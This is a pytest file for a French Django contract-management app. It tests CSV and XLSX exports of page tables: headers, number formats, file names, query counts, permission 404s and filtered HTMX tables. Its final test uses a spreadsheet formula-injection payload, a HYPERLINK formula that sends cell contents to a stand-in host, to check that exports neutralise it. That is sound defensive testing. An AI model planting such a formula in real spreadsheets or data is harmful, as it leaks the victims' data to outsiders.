"""« Télécharger ce tableau » on real pages of several apps: the link the page offers gives the table's rows as
CSV and XLSX, for what that user may see and nothing more."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from html import unescape

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from contrat_ville.accounts.tests.factories import OrganizationFactory, UserFactory
from contrat_ville.contracts.enums import Role
from contrat_ville.contracts.tests.factories import grant, make_contract
from contrat_ville.funding import services as funding_services
from contrat_ville.funding.enums import CreditProgramme
from contrat_ville.governance.enums import BodyKind, MemberRole, Verdict
from contrat_ville.governance.models import Body, BodyMember
from contrat_ville.strategy.tests.factories import (
    copil_meeting,
    decide,
    make_action,
    make_objective,
    make_orientation,
    make_plan,
)

pytestmark = pytest.mark.django_db


def export_link(html: str, testid: str, file_format: str) -> str:
    """The href of the table's « CSV » or « XLSX » link, as the page writes it (no JavaScript involved)."""
    wrapper = re.search(rf'<div class="fr-table[^"]*" data-testid="{testid}" data-table-export="[^"]+">', html)
    assert wrapper, f"pas de tableau {testid} exportable"
    rest = html[wrapper.end() :]
    links = re.findall(r'<a class="fr-link fr-link--sm" href="([^"]+)" download rel="nofollow">(CSV|XLSX)', rest)
    return unescape(next(href for href, name in links if name == file_format.upper()))


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    return load_workbook(io.BytesIO(response.content)).active


def steering_committee_world():
    """A contract, its pilot and a steering committee of three co-chairs and a member."""
    contract = make_contract(name="Contrat du Val")
    pilot = UserFactory.create()
    grant(contract, pilot, Role.PILOT)
    body = Body.objects.create(contract=contract, kind=BodyKind.STEERING_COMMITTEE, name="Comité de pilotage")
    for index, role in enumerate([MemberRole.CO_CHAIR] * 3 + [MemberRole.MEMBER]):
        BodyMember.objects.create(body=body, organization=OrganizationFactory.create(name=f"Org {index}"), role=role)
    return contract, pilot


def test_governance_body_list_as_csv_and_xlsx(client: Client) -> None:
    contract, pilot = steering_committee_world()
    client.force_login(pilot)
    page = client.get(reverse("governance:body_list", args=[contract.slug])).content.decode()
    testid = re.search(r'data-testid="(bodies-[a-z_]*steering[a-z_]*)"', page)
    assert testid
    response = client.get(export_link(page, testid[1], "csv"))
    assert "attachment" in response["Content-Disposition"] and ".csv" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0][:3] == ["Instance", "Membres", "Séances de l'année"]
    assert rows[1][0] == "Comité de pilotage"
    assert rows[1][1] == "4"  # three co-chairs and a member
    sheet = xlsx_sheet(client.get(export_link(page, testid[1], "xlsx")))
    assert sheet["A2"].value == "Comité de pilotage"
    assert sheet["B2"].value == 4 and sheet["A1"].font.bold


def test_funding_credit_list_amounts_become_numbers(client: Client) -> None:
    contract = make_contract(
        name="Contrat du Val", start_on=datetime.date(2024, 1, 1), end_on=datetime.date(2030, 12, 31)
    )
    pilot = UserFactory.create()
    grant(contract, pilot, Role.PILOT)
    for title, granted in (("Ville Vie Vacances", Decimal("12500")), ("Adultes-relais", Decimal("1234"))):
        funding_services.credit_create(
            contract=contract,
            fields=funding_services.CreditFields(
                programme=CreditProgramme.P147, title=title, year=2025, requested=granted, granted=granted
            ),
        )
    client.force_login(pilot)
    page = client.get(reverse("funding:credit_list", args=[contract.slug])).content.decode()
    rows = csv_rows(client.get(export_link(page, "credit-list", "csv")))
    # The « Actions » column (links drawn as buttons) is not data.
    assert rows[0] == ["Année", "Crédits", "Finance", "Convention", "Demandé", "Accordé", "Versé"]
    by_title = {row[1].split(" ; ")[0]: row for row in rows[1:]}
    assert set(by_title) == {"Ville Vie Vacances", "Adultes-relais"}
    assert by_title["Ville Vie Vacances"][0] == "2025"
    assert by_title["Ville Vie Vacances"][5] == "12500 €"
    sheet = xlsx_sheet(client.get(export_link(page, "credit-list", "xlsx")))
    values = {row[1].split(" ; ")[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert values["Ville Vie Vacances"][5] == 12500 and values["Adultes-relais"][5] == 1234
    cell = next(row for row in sheet.iter_rows(min_row=2) if str(row[1].value).startswith("Ville"))[5]
    assert "€" in cell.number_format and cell.number_format.startswith("#,##0")


def test_strategy_plan_list_and_its_file_name(client: Client) -> None:
    contract = make_contract(name="Contrat des Coteaux")
    pilot = UserFactory.create()
    grant(contract, pilot, Role.PILOT)
    objective = make_objective(make_orientation(contract))
    make_plan(contract, 2025, [make_action(objective, title="Médiation", code="A1")])
    client.force_login(pilot)
    page = client.get(reverse("strategy:plan_list", args=[contract.slug])).content.decode()
    response = client.get(export_link(page, "plan-list", "xlsx"))
    assert re.search(r'filename="plans-d-actions-annuels-contrat-des-coteaux\.xlsx"', response["Content-Disposition"])
    sheet = xlsx_sheet(response)
    assert sheet.title == "Plans d'actions annuels"
    assert [cell.value for cell in sheet[1]] == ["Année", "État", "Actions", "Reconduites", "Comparaison"]
    row = [cell.value for cell in sheet[2]]
    assert row[0] == "Plan d'actions 2025" and row[2] == 1 and row[4] == "Évolutions du plan 2025"


def test_an_export_costs_the_queries_of_its_page(client: Client) -> None:
    contract, pilot = steering_committee_world()
    client.force_login(pilot)
    url = reverse("governance:body_list", args=[contract.slug])
    client.get(url)  # warm the caches (content types, sessions)
    with CaptureQueriesContext(connection) as page_queries:
        page = client.get(url).content.decode()
    testid = re.search(r'data-testid="(bodies-[a-z_]*steering[a-z_]*)"', page)
    assert testid
    with CaptureQueriesContext(connection) as export_queries:
        assert client.get(export_link(page, testid[1], "xlsx")).status_code == 200
    assert len(export_queries) == len(page_queries)


def test_contract_members_without_the_management_controls(client: Client) -> None:
    contract = make_contract(name="Contrat du Val")
    pilot = UserFactory.create(first_name="Alix", last_name="Pilote")
    grant(contract, pilot, Role.PILOT)
    client.force_login(pilot)
    page = client.get(reverse("contracts:contract_members", args=[contract.slug])).content.decode()
    assert "Actions" in page  # the pilot manages members: the page has the column of controls
    rows = csv_rows(client.get(export_link(page, "members-table", "csv")))
    assert rows[0] == ["Nom", "Organisation", "Rôle"]
    assert rows[1][0].startswith("Alix Pilote ; ") and rows[1][2].startswith("pilote")


def test_an_outsider_gets_the_pages_404_and_a_missing_table_is_a_404(client: Client) -> None:
    contract, pilot = steering_committee_world()
    url = reverse("governance:body_list", args=[contract.slug])
    outsider = UserFactory.create()
    grant(make_contract(name="Ailleurs"), outsider, Role.PILOT)
    client.force_login(outsider)
    response = client.get(url, {"export": "csv", "tableau": "bodies-steering_committee"})
    assert response.status_code == 404 and "Content-Disposition" not in response
    client.force_login(pilot)
    missing = client.get(url, {"export": "csv", "tableau": "nulle-part"})
    assert missing.status_code == 404
    assert client.get(url, {"export": "pdf", "tableau": "nulle-part"}).status_code == 200  # not an export: the page


def test_a_filtered_htmx_table_exports_from_its_page_url_with_the_filters(client: Client) -> None:
    pilot = UserFactory.create()
    contract = make_contract(name="Contrat du Val", published=True)
    grant(contract, pilot, Role.PILOT)
    meeting = copil_meeting(contract)
    decide(contract, meeting=meeting, verdict=Verdict.VALIDATED, text="Premier texte validé.")
    decide(contract, meeting=meeting, verdict=Verdict.REJECTED, text="Second texte rejeté.")
    client.force_login(pilot)
    url = reverse("governance:decision_list", args=[contract.slug])
    fragment = client.get(url, {"verdict": Verdict.REJECTED}, headers={"HX-Request": "true"}).content.decode()
    assert "<html" not in fragment  # only the results were swapped in
    link = export_link(fragment, "decision-history", "csv")
    assert link.startswith(url + "?verdict=") and "export=csv" in link
    rows = csv_rows(client.get(link))
    assert [row[4] for row in rows[1:]] == ["Second texte rejeté."]


def test_a_stake_titled_as_a_formula_is_exported_as_text(client: Client) -> None:
    """Formula injection (core.spreadsheets.safe_cell): a stake titled « =HYPERLINK(…) » comes out of « Télécharger
    ce tableau » as text with a leading ' — in the CSV and in the XLSX, where openpyxl would otherwise store a
    formula."""
    from contrat_ville.diagnostic.tests.factories import contract_with_qpv, make_stake, member

    contract = contract_with_qpv()
    pilot = member(contract, Role.PILOT)
    payload = '=HYPERLINK("http://exemple.invalid/?vol="&A1;"Voir")'
    stake = make_stake(contract, title=payload)
    client.force_login(pilot)
    page = client.get(reverse("diagnostic:stake_list", args=[contract.slug])).content.decode()
    testid = f"stakes-{stake.pillar.code}"
    rows = csv_rows(client.get(export_link(page, testid, "csv")))
    assert rows[1][0].startswith("'" + payload)  # « … (v1) »: the stake's version follows its title
    sheet = xlsx_sheet(client.get(export_link(page, testid, "xlsx")))
    assert sheet["A2"].value.startswith("'" + payload) and sheet["A2"].data_type == "s"
